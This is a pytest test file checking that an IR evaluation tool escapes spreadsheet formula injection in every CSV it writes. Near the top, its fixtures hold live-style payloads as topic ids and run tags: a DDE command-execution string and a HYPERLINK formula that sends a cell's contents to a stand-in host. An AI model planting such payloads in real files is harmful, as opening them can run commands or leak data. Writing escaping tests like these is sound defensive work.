"""Issue #30: CSV formula injection. Run tags and topic ids come from other people's files;
organisers open participants' CSVs in spreadsheets. Every text cell of every CSV cranfield
writes (``--format csv`` of every command, ``Report.save("x.csv")``) that starts with ``= + - @``,
a tab or a carriage return gets a leading ``'`` (OWASP, "CSV Injection"), unless it is a plain
decimal number, which a spreadsheet reads as that number (docs/conventions.md#output)."""

from __future__ import annotations

import gzip
import io
import re
import warnings
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from test_cli_uniform import commands

from conftest import DATA
from cranfield.cli.main import build_parser, main
from cranfield.render.tables import FORMULA_STARTS, csv_cell, csv_text

WEB2012 = DATA / "web2012"
# Topic ids and run tags a participant or a collection might carry (no blanks: TREC files split at them).
TOPICS = {"151": '=HYPERLINK("http://e.x/?"&A1,"c")', "152": "+SUM(1)", "153": "@x", "154": "-x", "155": "=1+1",
          "156": "-1"}
TAGS = {"ql-filtered": "=cmd|'/Ccalc'!A0", "rm-filtered": "@run"}
NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def renamed(lines: list[str], tag: str | None = None) -> str:
    """TREC lines with the topics of :data:`TOPICS` renamed (and the run tag replaced)."""
    out = []
    for line in lines:
        cols = line.split()
        cols[0] = TOPICS.get(cols[0], cols[0])
        if tag is not None:
            cols[5] = tag
        out.append(" ".join(cols) + "\n")
    return "".join(out)


@pytest.fixture
def files(tmp_path: Path) -> dict[str, str]:
    """Diversity qrels and two runs of TREC Web 2012 with dangerous topic ids and run tags, and
    multi-aspect judgments and a run (Maistro et al., CIKM 2021, Table 3) likewise."""
    with gzip.open(WEB2012 / "qrels-for-ndeval.txt.gz", "rt") as f:
        (tmp_path / "qrels.txt").write_text(renamed(f.read().splitlines()))
    out = {"qrels": str(tmp_path / "qrels.txt")}
    for name, tag in TAGS.items():
        with gzip.open(WEB2012 / f"{name}.run.gz", "rt") as f:
            (tmp_path / f"{name}.run").write_text(renamed(f.read().splitlines(), tag))
        out[name] = str(tmp_path / f"{name}.run")
    (tmp_path / "rel.qrels").write_text("=1+1 0 d1 mr\n=1+1 0 d2 hr\n=1+1 0 d3 hr\n")
    (tmp_path / "cor.qrels").write_text("=1+1 0 d1 c\n=1+1 0 d2 pc\n=1+1 0 d3 nc\n")
    (tmp_path / "aspect.run").write_text("=1+1 Q0 d1 1 3 @r\n=1+1 Q0 d2 2 2 @r\n=1+1 Q0 d3 3 1 @r\n")
    out.update({k: str(tmp_path / f"{k}.qrels") for k in ("rel", "cor")}, aspect_run=str(tmp_path / "aspect.run"))
    (tmp_path / "answers.tsv").write_text("=1+1\t@r\tn1\tvital\tsupport\n=1+1\t@r\tn2\tokay\tpartial_support\n"
                                          "+SUM(1)\t@r\tn1\tvital\tnot_support\n")
    out["nuggets"] = str(tmp_path / "answers.tsv")
    return out


def csv_args(command: str, f: dict[str, str]) -> list[str]:
    """A small run of ``command`` with ``--format csv`` on :func:`files`."""
    runs = [f["qrels"], f["ql-filtered"], f["rm-filtered"]]
    return {
        "eval": ["eval", *runs, "-m", "AP,alpha-nDCG@10", "-q"],
        "compare": ["compare", *runs, "-m", "AP", "--test", "t"],
        "discpower": ["discpower", *runs, "-m", "AP", "--B", "50"],
        "correlate": ["correlate", *runs, "-m", "AP", "-m", "P@10"],
        "intuitiveness": ["intuitiveness", *runs, "-m", "AP", "-m", "P@10", "--gold", "RR"],
        "coverage": ["coverage", *runs, "-m", "AP", "--reference", "P@10", "--reference", "RR", "--pairs", "50"],
        "collection": ["collection", *runs, "-m", "alpha-nDCG@10"],
        "dss": ["dss", f["qrels"], "-m", "alpha-nDCG", "--k", "5", "--n", "10", "--per-topic"],
        "truncation": ["truncation", *runs, "-m", "RBU", "--full", "AP"],
        "example": ["example", "-m", "AP"],
        "similarity": ["similarity", *runs[1:], "-m", "RBO(p=0.9)", "-m", "Jaccard@10", "-q"],
        "repro": ["repro", "--qrels", runs[0], "--orig-baseline", runs[1], "--orig-advanced", runs[2],
                  "--rep-baseline", runs[2], "--rep-advanced", runs[1], "-m", "AP"],
        "nuggets": ["nuggets", f["nuggets"], "-m", "V_strict", "-q"],
        "aspects eval": ["aspects", "eval", "--aspect", f"relevance={f['rel']}", "--aspect", f"correctness={f['cor']}",
                         "--labels", "relevance=nr,mr,fr,hr", "--labels", "correctness=nc,pc,c", f["aspect_run"],
                         "-m", "CAM(AP)", "-q"],
    }[command] + ["--format", "csv"]


def csv_commands() -> list[str]:
    """The commands whose --format takes csv."""
    return [name for name, parser in commands(build_parser()).items()
            if any(a.option_strings == ["--format"] and "csv" in (a.choices or ()) for a in parser._actions)]


def test_every_csv_command_is_checked() -> None:
    assert set(csv_commands()) == {"eval", "example", "compare", "discpower", "correlate", "intuitiveness", "coverage",
                                   "collection", "dss", "truncation", "aspects eval", "similarity", "repro",
                                   "nuggets"}


def harmless(cell: object) -> bool:
    text = str(cell)
    return not text.startswith(FORMULA_STARTS) or bool(NUMBER.fullmatch(text))


def check_cells(text: str) -> pd.DataFrame:
    """``text`` read by pandas as it is; every cell and column name harmless in a spreadsheet."""
    frame = pd.read_csv(io.StringIO(text))
    assert all(map(harmless, frame.columns))
    for column in frame.columns:
        assert all(map(harmless, frame[column].dropna())), (column, list(frame[column]))
    return frame


@pytest.mark.parametrize("command", csv_commands())
def test_csv_of_every_command_is_harmless(command: str, files: dict[str, str],
                                          capsys: pytest.CaptureFixture[str]) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        assert main(csv_args(command, files)) == 0
    text = capsys.readouterr().out
    check_cells(text)
    shown = {name for name in [*TOPICS.values(), *TAGS.values(), "@r"] if name in text and not harmless(name)}
    for name in shown:  # each dangerous name shown is escaped, everywhere it is a cell
        assert re.search(rf"(^|,)\"?{re.escape(name.replace(chr(34), chr(34) * 2))}\"?(,|$)", text,
                         re.MULTILINE) is None, name
    if command == "nuggets":
        assert {"'@r", "'=1+1", "'+SUM(1)"} <= set(pd.read_csv(io.StringIO(text), dtype=str)[["run", "topic"]].stack())
    if command in ("eval", "truncation"):  # run tags and topic ids are cells: they come back escaped
        frame = pd.read_csv(io.StringIO(text), dtype=str)
        assert {"'" + t for t in TAGS.values()} <= set(frame["run"])
        assert {"'" + t for t in TOPICS.values() if t != "-1"} | {"-1"} <= set(frame["topic"])
    if command == "compare":
        assert {"'" + t for t in TAGS.values()} <= set(pd.read_csv(io.StringIO(text)).stack().astype(str))
    if command == "aspects eval":
        assert {"'@r", "'=1+1"} <= set(pd.read_csv(io.StringIO(text), dtype=str)[["run", "topic"]].stack())


def test_report_csv_is_harmless(files: dict[str, str], tmp_path: Path) -> None:
    from cranfield import Evaluator, Report

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        report = Report.from_evaluator(Evaluator(files["qrels"], ["AP", "P@10"]),
                                       [files["ql-filtered"], files["rm-filtered"]])
    report.save(tmp_path / "r.csv")
    text = (tmp_path / "r.csv").read_text(encoding="utf-8")
    frame = check_cells(text)
    assert {"'" + t for t in TAGS.values()} <= set(frame.astype(str).stack())
    numbers = report.to_frame().select_dtypes("number")  # the numbers are the frame's, as numbers
    pd.testing.assert_frame_equal(frame[numbers.columns], numbers, check_dtype=False)


@given(st.text())
def test_a_cell_is_escaped_exactly_when_a_spreadsheet_would_run_it(text: str) -> None:
    cell = csv_cell(text)
    assert harmless(cell)
    if text.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(text):
        assert cell == "'" + text
    else:
        assert cell == text


@pytest.mark.parametrize("value", ["-1", "+2", "-0.25", "-1e-3", "+.5"])
def test_numbers_stay_numbers(value: str) -> None:
    """A topic id ``-1`` or a value ``-0.25`` is written as it is: a spreadsheet reads a number."""
    text = csv_text(["topic", "value"], [[value, -0.25]])
    assert text == f"topic,value\n{value},-0.25\n"
    assert pd.read_csv(io.StringIO(text))["value"].tolist() == [-0.25]
